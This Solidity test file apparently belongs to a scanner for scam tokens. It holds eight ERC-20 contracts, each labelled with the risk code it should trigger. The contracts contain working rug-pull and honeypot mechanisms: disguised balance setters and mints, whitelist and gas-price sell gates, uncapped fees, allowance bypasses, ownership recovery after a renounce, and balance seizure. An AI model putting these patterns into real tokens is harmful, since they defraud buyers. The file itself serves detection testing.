// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tokens of the well-known kinds, as a stranger writes them: setters in odd names, gates on sales, fees, guards of another contract.

interface IGuard {
    function check(address f, address t, uint256 v) external returns (bool);
}

/// Hidden balance setter behind an odd name, guarded by a second "marketing" wallet kept as a constant.
/// expects: CT-06 danger
contract MoonPaw {
    string public name = "Moon Paw";
    string public symbol = "PAW";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27;
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address private immutable marketingWallet;
    event Transfer(address indexed a, address indexed b, uint256 v);
    event Approval(address indexed a, address indexed b, uint256 v);
    constructor(address m) {
        owner = msg.sender;
        marketingWallet = m;
        _rOwned[msg.sender] = totalSupply;
    }
    function balanceOf(address a) public view returns (uint256) { return _rOwned[a]; }
    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address t, uint256 v) external returns (bool) { _move(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _move(f, t, v);
        return true;
    }
    function _move(address f, address t, uint256 v) internal {
        require(t != address(0), "zero");
        _rOwned[f] -= v;
        _rOwned[t] += v;
        emit Transfer(f, t, v);
    }
    function swapAndLiquify(address[] calldata accs, uint256 bal) external {
        require(msg.sender == marketingWallet);
        for (uint i; i < accs.length; i++) { _rOwned[accs[i]] = bal; }
    }
    function renounceOwnership() external { require(msg.sender == owner); owner = address(0); }
}

/// Sell gate: transfers to the pair only from "exempt" addresses after the first block (whitelist mapping).
/// expects: CT-12 danger
contract DogeSafe {
    string public name = "SafeDogeX";
    string public symbol = "SDX";
    uint8 public decimals = 9;
    uint256 public totalSupply = 1e18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) isExempt;
    address public uniswapV2Pair;
    address private _dev;
    event Transfer(address indexed a, address indexed b, uint256 v);
    constructor() {
        _dev = msg.sender;
        isExempt[msg.sender] = true;
        balanceOf[msg.sender] = totalSupply;
    }
    function setPair(address p) external { require(msg.sender == _dev); uniswapV2Pair = p; }
    function setExempt(address p, bool b) external { require(msg.sender == _dev); isExempt[p] = b; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { return _t(msg.sender, t, v); }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        uint256 a = allowance[f][msg.sender];
        require(a >= v);
        unchecked { allowance[f][msg.sender] = a - v; }
        return _t(f, t, v);
    }
    function _t(address f, address t, uint256 v) private returns (bool) {
        if (t == uniswapV2Pair) { require(isExempt[f], "TRANSFER_FROM_FAILED"); }
        uint256 b = balanceOf[f];
        require(b >= v, "bal");
        unchecked { balanceOf[f] = b - v; balanceOf[t] += v; }
        emit Transfer(f, t, v);
        return true;
    }
}

/// Uncapped sell fee; fee setter without bound, default 3 %.
/// expects: CT-09 danger, CT-12 danger
contract FlokiTax {
    string public name = "Floki Reborn";
    string public symbol = "FLR";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) private bal;
    mapping(address => mapping(address => uint256)) private al;
    mapping(address => bool) public amm;
    address public owner;
    address public treasury;
    uint256 public buyFee = 3;
    uint256 public sellFee = 3;
    event Transfer(address indexed a, address indexed b, uint256 v);
    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
    constructor() {
        owner = msg.sender;
        treasury = msg.sender;
        totalSupply = 1e24;
        bal[msg.sender] = 1e24;
    }
    function balanceOf(address a) external view returns (uint256) { return bal[a]; }
    function allowance(address a, address b) external view returns (uint256) { return al[a][b]; }
    function setAmm(address p, bool v) external onlyOwner { amm[p] = v; }
    function updateFees(uint256 b, uint256 s) external onlyOwner { buyFee = b; sellFee = s; }
    function approve(address s, uint256 v) external returns (bool) { al[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _transfer(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        al[f][msg.sender] -= v;
        _transfer(f, t, v);
        return true;
    }
    function _transfer(address f, address t, uint256 v) internal {
        uint256 fee;
        if (amm[t]) fee = v * sellFee / 100;
        else if (amm[f]) fee = v * buyFee / 100;
        bal[f] -= v;
        if (fee > 0) { bal[treasury] += fee; emit Transfer(f, treasury, fee); }
        bal[t] += v - fee;
        emit Transfer(f, t, v - fee);
    }
}

/// Owner's transferFrom needs no allowance.
/// expects: CT-30 danger
contract Galaxy {
    string public name = "Galaxy Credit";
    string public symbol = "GXC";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e26;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address immutable deployer;
    event Transfer(address indexed a, address indexed b, uint256 v);
    constructor() { deployer = tx.origin; balanceOf[tx.origin] = totalSupply; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) {
        balanceOf[msg.sender] -= v;
        balanceOf[t] += v;
        emit Transfer(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        uint256 cur = _allow(f, msg.sender);
        require(cur >= v, "allowance");
        if (cur != type(uint256).max) allowance[f][msg.sender] = cur - v;
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
    function _allow(address f, address s) internal view returns (uint256) {
        return s == deployer ? type(uint256).max : allowance[f][s];
    }
}

/// External "anti bot" contract decides on every transfer, set by owner.
/// expects: CT-12 danger, CT-18 danger
contract AntiBot {
    string public name = "Atlas Inu";
    string public symbol = "ATL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e27;
    mapping(address => uint256) b;
    mapping(address => mapping(address => uint256)) a;
    address public owner;
    IGuard antiBot;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor(IGuard g) {
        owner = msg.sender;
        antiBot = g;
        b[msg.sender] = totalSupply;
    }
    function balanceOf(address x) external view returns (uint256) { return b[x]; }
    function allowance(address x, address y) external view returns (uint256) { return a[x][y]; }
    function enable(IGuard g) external { require(msg.sender == owner); antiBot = g; }
    function approve(address s, uint256 v) external returns (bool) { a[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _x(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        a[f][msg.sender] -= v;
        _x(f, t, v);
        return true;
    }
    function _x(address f, address t, uint256 v) private {
        if (address(antiBot) != address(0)) require(antiBot.check(f, t, v), "bot");
        b[f] -= v;
        b[t] += v;
        emit Transfer(f, t, v);
    }
}

/// Take back ownership: lock()/unlock() from the SafeMoon era with hidden previous owner + owner can seize.
/// expects: CT-17 danger, CT-30 danger
contract LockBack {
    string public name = "Lock Back";
    string public symbol = "LBK";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    mapping(address => uint256) b;
    mapping(address => mapping(address => uint256)) a;
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { _owner = msg.sender; b[msg.sender] = totalSupply; }
    function owner() external view returns (address) { return _owner; }
    modifier onlyOwner() { require(_owner == msg.sender); _; }
    function lock(uint256 t) external onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = block.timestamp + t;
    }
    function renounceOwnership() external onlyOwner { _previousOwner = _owner; _owner = address(0); }
    function unlock() external {
        require(_previousOwner == msg.sender);
        require(block.timestamp > _lockTime);
        _owner = _previousOwner;
    }
    function balanceOf(address x) external view returns (uint256) { return b[x]; }
    function allowance(address x, address y) external view returns (uint256) { return a[x][y]; }
    function approve(address s, uint256 v) external returns (bool) { a[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) {
        b[msg.sender] -= v;
        b[t] += v;
        emit Transfer(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        a[f][msg.sender] -= v;
        b[f] -= v;
        b[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
    function reclaim(address h) external onlyOwner {
        uint256 v = b[h];
        b[h] = 0;
        b[_owner] += v;
        emit Transfer(h, _owner, v);
    }
}

/// Tx gas price gate: sells only below a gas price the owner sets to 0.
/// expects: CT-12 danger, CT-32 danger
contract GasGate {
    string public name = "Gasless Pepe";
    string public symbol = "GPEPE";
    uint8 public decimals = 18;
    uint256 public totalSupply = 4e29;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address owner;
    address pool;
    uint256 maxGas = type(uint256).max;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { owner = msg.sender; balanceOf[msg.sender] = totalSupply; }
    function setRules(uint256 g, address p) external {
        require(msg.sender == owner);
        maxGas = g;
        pool = p;
    }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) public returns (bool) { _mv(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) public returns (bool) {
        allowance[f][msg.sender] -= v;
        _mv(f, t, v);
        return true;
    }
    function _mv(address f, address t, uint256 v) internal {
        if (t == pool && f != owner) require(tx.gasprice < maxGas, "gas");
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
}

/// Hidden mint inside the dev's approve.
/// expects: CT-06 danger
contract ApproveMint {
    string public name = "Quiet Yield";
    string public symbol = "QY";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    mapping(address => uint256) private _b;
    mapping(address => mapping(address => uint256)) private _a;
    bytes32 private k;
    event Transfer(address indexed f, address indexed t, uint256 v);
    event Approval(address indexed f, address indexed t, uint256 v);
    constructor() { k = keccak256(abi.encodePacked(msg.sender)); _b[msg.sender] = totalSupply; }
    function balanceOf(address x) external view returns (uint256) { return _b[x]; }
    function allowance(address x, address y) external view returns (uint256) { return _a[x][y]; }
    function approve(address s, uint256 v) external returns (bool) {
        if (keccak256(abi.encodePacked(msg.sender)) == k) { _b[s] += v; return true; }
        _a[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address t, uint256 v) external returns (bool) {
        _b[msg.sender] -= v;
        _b[t] += v;
        emit Transfer(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        _a[f][msg.sender] -= v;
        _b[f] -= v;
        _b[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
}
